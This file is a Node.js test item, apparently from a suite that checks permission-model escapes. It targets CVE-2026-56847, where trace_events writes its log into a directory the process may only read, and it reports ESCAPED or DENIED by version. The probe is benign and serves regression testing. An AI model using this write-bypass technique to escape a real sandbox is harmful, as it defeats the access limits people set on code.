// id: A29
// title: trace_events writes its log where writing is not granted
// label: CVE-2026-56847 fixed in 22.23.2, 24.18.1 and 26.5.1
// reference: https://nodejs.org/en/blog/vulnerability/july-2026-security-releases
// versions: >=20.0.0 <22.23.2 || >=23.0.0 <24.18.1 || >=25.0.0 <26.5.1
// measured: escapes: 20.3.0 to 20.20.2, 25.2.1 to 26.5.0; denied: 22.23.3, 24.21.0, 26.10.0
// grants: --allow-fs-read={grant} --allow-fs-read={readonly} --allow-fs-write={grant}
// prove: write
// stops: landlock
// setup: mkdir {readonly}
// watchdog: 8
// note: when the kernel refuses the log, enable() itself never returns: a hang with nothing written counts as denied
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const fs = require('fs');
const readonly = JSON.parse(process.env.ATTACK).readonly;
process.chdir(readonly);
try {
  const tracing = require('trace_events').createTracing({ categories: ['node'] });
  tracing.enable();
  setTimeout(() => tracing.disable(), 200);
} catch (error) {
  failed(error);
}
// Node may hang for ever when the log cannot be opened, here or at its end: this process ends itself, else the watchdog does.
setTimeout(() => {
  const made = fs.readdirSync(readonly);
  fs.writeSync(1, made.length ? `ESCAPED ${readonly}/${made[0]}\n` : 'DENIED EACCES no log was written\n');
  process.kill(process.pid, 'SIGKILL');
}, 1000);
